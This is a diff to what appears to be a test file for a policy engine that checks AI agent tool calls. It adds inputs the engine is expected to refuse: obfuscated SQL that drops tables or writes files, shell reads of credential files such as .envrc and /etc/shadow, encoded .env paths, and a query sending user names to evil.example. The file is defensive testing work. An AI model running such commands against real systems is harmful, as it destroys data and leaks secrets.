@@ -165,6 +165,12 @@ REFUSED = [
         "select httpuritype('http://evil.example/?' || name).getclob() from users",
         "select bfilename('DIR', 'passwd') from dual",
         "select get_lock('a', 100000)",
+        "select 1 exec ('dro' + 'p table users')",
+        "select 1 dbcc shrinkdatabase(a)",
+        "select 1 backup database a to disk = 'x'",
+        "select 1 use master",
+        "select 1into copied from users",
+        "select 1e0into outfile '/tmp/x' from users",
     ]),
     ("shell/policy.yaml", "shell/run_command", "command", "cat /etc/hostname", [
         "cat /etc//shadow",
@@ -173,6 +179,13 @@ REFUSED = [
         "cat /etc/gshadow",
         "cat keys/id_ed25519_sk",
         "cat /home/a/.docker/config.json",
+        "cat app/.envrc",
+    ]),
+    ("baseline/no-secrets.yaml", "files/read", "path", "/srv/.environment", [
+        "/srv/.envrc",
+        "file:///srv/%2eenv",
+        "FILE:/srv/.e%6Ev",
+        "file:///srv/.env#top",
     ]),
     ("baseline/no-internal-addresses.yaml", "web/fetch", "url", "http://[2606:4700::1]/", [
         "http://[fec0::1]/",
